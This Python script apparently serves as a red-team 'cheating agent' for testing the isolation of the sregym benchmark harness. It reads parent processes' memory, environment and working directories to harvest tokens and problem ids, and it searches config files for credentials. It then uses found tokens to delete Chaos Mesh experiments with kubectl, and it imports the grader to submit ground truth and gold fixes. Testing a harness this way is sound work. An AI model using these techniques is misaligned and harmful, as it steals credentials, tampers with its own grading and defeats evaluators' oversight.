"""A cheating agent: tries to win without investigating, by escaping to what grades it.

Usage (inside a `command` agent): python3 cheat.py MODE, MODE one of
  package  import the installed sregym package (or read its .py files) for the ground truth
  proc     read the parent processes' command line, environment and working directory
  memory   scrape the parent processes' memory for bearer tokens and problem ids
  tokens   use any token found anywhere (files, environments, memory) to delete the chaos

Every finding is printed as `FOUND <what>`; with a problem id and the package it submits the
ground truth and applies the gold fix, with an admin token it deletes every Chaos Mesh
experiment. Otherwise it submits a diagnosis that names nothing real. Standard library only.
"""

import contextlib
import glob
import json
import os
import re
import subprocess
import sys

MODE = sys.argv[1] if len(sys.argv) > 1 else "all"
ID = re.compile(rb"[a-z][a-z0-9-]+/[a-z0-9][a-z0-9-]+-v[0-9]+")
TOKEN = re.compile(rb"sregym-admin[.][A-Za-z0-9_-]{16,}|token: ([A-Za-z0-9._-]{16,})")
CHAOS = "networkchaos,podchaos,iochaos,stresschaos,timechaos,dnschaos,httpchaos"
found = []
problem_ids = set()
tokens = set()


def note(what):
    found.append(what)
    print("FOUND", what[:300], flush=True)


def ancestors():
    pids, pid = [], os.getppid()
    while pid >= 1:
        pids.append(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return pids


SREGYM_PROCESS = re.compile(rb"bin/sregym|-m\0sregym|spawn_main|pytest")


def targets():
    """The sregym processes that run this agent (its ancestors: `sregym`, its spawned workers, a
    pytest running it). Deliberately nothing else: this agent cheats at its own run, it does not
    go through the rest of the machine."""
    return [pid for pid in ancestors() if SREGYM_PROCESS.search(read(f"/proc/{pid}/cmdline"))]


def read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def scan_text(data, where):
    for m in ID.finditer(data):
        problem_ids.add(m.group().decode())
    for m in TOKEN.finditer(data):
        token = (m.group(1) or m.group()).decode()
        if token not in tokens and token != os.environ.get("SREGYM_AGENT_TOKEN"):
            tokens.add(token)
            note(f"token in {where}")


def proc_mode():
    for pid in targets():
        cmdline = read(f"/proc/{pid}/cmdline").replace(b"\0", b" ")
        note(f"process {pid}: {cmdline[:200].decode(errors='replace')}")
        args = cmdline.split()
        for i, a in enumerate(args[:-1]):
            if a in (b"-p", b"--problem"):
                problem_ids.add(args[i + 1].decode())
        env = read(f"/proc/{pid}/environ")
        if env:
            scan_text(env.replace(b"\0", b"\n"), f"environ of {pid}")
            if b"SREGYM" in env or b"KUBECONFIG" in env:
                note(f"environment of {pid}")
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
            entries = os.listdir(cwd)
            if cwd != os.getcwd():
                note(f"cwd of {pid}: {cwd}: {entries[:20]}")
                for name in ("results.jsonl", "run.json"):
                    data = read(os.path.join(cwd, name))
                    if data:
                        note(f"{name} in {cwd}")
                        scan_text(data, name)
        except OSError:
            pass


def memory_mode():
    for pid in targets():
        maps = read(f"/proc/{pid}/maps", 1 << 24).decode(errors="replace")
        if not maps:
            continue
        try:
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)  # noqa: SIM115 (closed below)
        except OSError as exc:
            print(f"memory of {pid}: {exc}")
            continue
        scanned = 0
        with mem:
            for line in maps.splitlines():
                parts = line.split()
                if len(parts) < 2 or not parts[1].startswith("rw"):
                    continue
                start, end = (int(x, 16) for x in parts[0].split("-"))
                if end - start > 1 << 28:
                    continue
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    continue
                scanned += len(data)
                if b"sregym" in data:
                    scan_text(data, f"memory of {pid}")
        if scanned:
            note(f"read {scanned} bytes of memory of {pid}")


def file_tokens():
    # Where sregym leaves files: its temporary directories and the working directories of its
    # processes (a run directory). Nothing else of the machine is searched.
    roots = [os.path.dirname(os.environ.get("KUBECONFIG", "/nonexistent/x")), os.environ.get("HOME", "/nonexistent")]
    for pid in targets():
        with contextlib.suppress(OSError):
            roots.append(os.readlink(f"/proc/{pid}/cwd"))
        args = read(f"/proc/{pid}/cmdline").split(b"\0")
        roots += [args[i + 1].decode() for i, a in enumerate(args[:-1]) if a == b"--out"]
    budget = 20_000
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in ("site-packages", "node_modules", ".git", "pypi", "wheels",
                                                            "pypi-more", "__pycache__", "proc")]
            for name in filenames:
                budget -= 1
                if budget <= 0:
                    return
                path = os.path.join(dirpath, name)
                if name in ("kubeconfig", "config") or name.endswith((".kubeconfig", ".yaml", ".env", ".json")):
                    data = read(path, 1 << 16)
                    if b"token" in data:
                        scan_text(data, path)


def package_mode():
    code = ("import sregym, json; from sregym.problems.registry import all_problem_ids; "
            "print(json.dumps(all_problem_ids()))")
    for python in ("python3", "python", sys.executable):
        try:
            out = subprocess.run([python, "-c", code], capture_output=True, text=True, timeout=120)
        except OSError:
            continue
        if out.returncode == 0:
            note(f"imported sregym with {python}: {len(json.loads(out.stdout))} problems")
            break
        print(f"{python}: import failed: {out.stderr.strip().splitlines()[-1:]}")
    patterns = [f"{p}/lib/python3*/site-packages/sregym/problems/catalog/*/*.py" for p in (sys.prefix, "/usr", "/usr/local")]
    patterns += ["/work/*/src/sregym/problems/catalog/*/*.py", "/root/*/src/sregym/problems/catalog/*/*.py",
                 "/home/*/*/src/sregym/problems/catalog/*/*.py"]
    for finder in glob.glob(f"{sys.prefix}/lib/python3*/site-packages/__editable__*sregym*finder.py"):
        text = read(finder).decode(errors="replace")
        for src in re.findall(r"'sregym': '([^']+)'", text):
            patterns.append(f"{src}/problems/catalog/*/*.py")
    files = sorted({f for p in patterns for f in glob.glob(p)})
    if files:
        note(f"{len(files)} problem files readable, e.g. {files[0]}")
        for f in files[:3]:
            read(f)


def cheat_with_package(problem_id):
    """Submit the ground truth and apply the gold fix of `problem_id`, if sregym imports."""
    code = r'''
import json, sys, subprocess, tempfile
from pathlib import Path
from sregym.problems.registry import get_problem
from sregym.env.gold_commands import action_to_command
p = get_problem(sys.argv[1])
gt = p.ground_truth
def ent(e):
    e = getattr(e, "entity", e)
    return f"{e.namespace}/{e.kind}/{e.name}" if e.namespace else f"{e.kind}/{e.name}"
diag = {"root_cause_entities": [ent(e) for e in gt.root_causes], "mechanism": gt.mechanism,
        "affected_entities": [ent(e) for e in getattr(gt, "affected", ())],
        "explanation": f"{gt.description} {getattr(gt, 'detail', '')}"}
work = Path(tempfile.mkdtemp())
cmds = [action_to_command(a, work, i) for i, a in enumerate(p.gold)]
print(json.dumps({"diagnosis": diag, "gold": cmds}))
'''
    out = subprocess.run(["python3", "-c", code, problem_id], capture_output=True, text=True, timeout=120)
    if out.returncode != 0:
        print("cheat failed:", out.stderr[-500:])
        return False
    plan = json.loads(out.stdout.strip().splitlines()[-1])
    note(f"ground truth of {problem_id}: {plan['diagnosis']['root_cause_entities']}")
    with open("diag.json", "w") as f:
        json.dump(plan["diagnosis"], f)
    subprocess.run(["sregym-submit", "diagnosis", "--json", "diag.json"])
    for cmd in plan["gold"]:
        subprocess.run("kubectl " + cmd, shell=True)
    return True


def use_tokens():
    server = None
    kubeconfig = read(os.environ.get("KUBECONFIG", ""))
    m = re.search(rb"server: (\S+)", kubeconfig)
    if m:
        server = m.group(1).decode()
    for token in sorted(tokens):
        out = subprocess.run(["kubectl", f"--token={token}", "delete", CHAOS, "--all", "-A"], capture_output=True,
                             text=True, timeout=60)
        print(f"delete with a found token: rc={out.returncode} {out.stdout[-300:]} {out.stderr[-300:]}")
        if out.returncode == 0:
            note(f"deleted chaos with a found token via {server}")


def main():
    if MODE in ("proc", "all", "package", "memory"):
        proc_mode()
    if MODE in ("memory", "all", "tokens"):
        memory_mode()
    if MODE in ("tokens", "all"):
        file_tokens()
        use_tokens()
    if MODE in ("package", "all"):
        package_mode()
    cheated = False
    own = os.environ.get("SREGYM_NAMESPACE", "")
    candidates = sorted(p for p in problem_ids if not own or p.startswith(own + "/"))
    print("problem ids seen:", candidates[:10])
    if MODE in ("package", "proc", "all") and len(candidates) == 1:
        cheated = cheat_with_package(candidates[0])
    if not cheated:
        subprocess.run(["sregym-submit", "diagnosis", "--entity", "default/ConfigMap/nothing-found",
                        "--mechanism", "nothing found", "--explanation", "this agent only looked for ground truth"])
    subprocess.run(["sregym-submit", "done"])
    print(f"SUMMARY {MODE}: {len(found)} finding(s)")


main()
